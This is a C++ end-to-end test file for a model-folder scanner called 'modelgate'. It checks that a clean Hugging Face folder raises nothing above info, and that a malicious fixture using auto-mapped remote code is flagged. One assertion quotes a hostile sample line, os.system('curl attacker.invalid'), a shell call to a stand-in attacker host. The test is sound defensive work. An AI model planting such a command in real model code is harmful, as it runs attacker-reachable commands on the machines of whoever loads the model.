// End to end: `modelgate scan` of whole Hugging Face model folders. The clean one (configs,
// tokenizer, safetensors shards and their index, README) must scan clean with nothing above
// info; the one whose config maps classes to modeling_x.py must name both the mapping and the
// command the module runs.
#include <gtest/gtest.h>

#include <set>
#include <string>

#include "e2e/cli_runner.h"
#include "support/test_paths.h"

namespace mg::test {
namespace {

std::string Folder(const char* relative) { return (FixturesDir() / relative).string(); }

TEST(HuggingFaceFolder, CleanModelScansCleanWithNothingAboveInfo) {
  const CliRun run = RunCli({"scan", "--format", "json", Folder("clean/hf_model")});
  ASSERT_EQ(run.exit_code, 0) << run.out << run.err;
  const auto report = ParseJson(run.out);
  ASSERT_FALSE(report.is_discarded()) << run.out;
  ASSERT_EQ(report["targets"].size(), 9u) << run.out;
  std::set<std::string> formats;
  for (const auto& target : report["targets"]) {
    EXPECT_EQ(target["status"], "complete") << target["path"];
    formats.insert(target["format"].get<std::string>());
    for (const auto& finding : target["findings"]) {
      EXPECT_EQ(finding["severity"], "info")
          << target["path"] << ": " << finding["rule"] << " " << finding["message"];
    }
  }
  EXPECT_TRUE(formats.contains("huggingface-config"));
}

TEST(HuggingFaceFolder, RemoteCodeFolderNamesTheMappingAndTheCommand) {
  const CliRun run = RunCli({"scan", "--format", "json", Folder("malicious/hf_remote_code")});
  ASSERT_EQ(run.exit_code, 1) << run.out << run.err;
  const auto report = ParseJson(run.out);
  ASSERT_FALSE(report.is_discarded()) << run.out;
  bool auto_map = false;
  bool command = false;
  for (const auto& target : report["targets"]) {
    for (const auto& finding : target["findings"]) {
      const std::string evidence = finding["evidence"];
      if (finding["rule"] == "HF-AUTO-MAP" &&
          evidence.find("modeling_x.py (present beside the config)") != std::string::npos) {
        auto_map = true;
      }
      if (finding["rule"] == "PY-RUNS-COMMAND" && finding["severity"] == "high" &&
          evidence == "line 16: os.system('curl attacker.invalid')") {
        command = true;
      }
    }
  }
  EXPECT_TRUE(auto_map) << run.out;
  EXPECT_TRUE(command) << run.out;
}

}  // namespace
}  // namespace mg::test
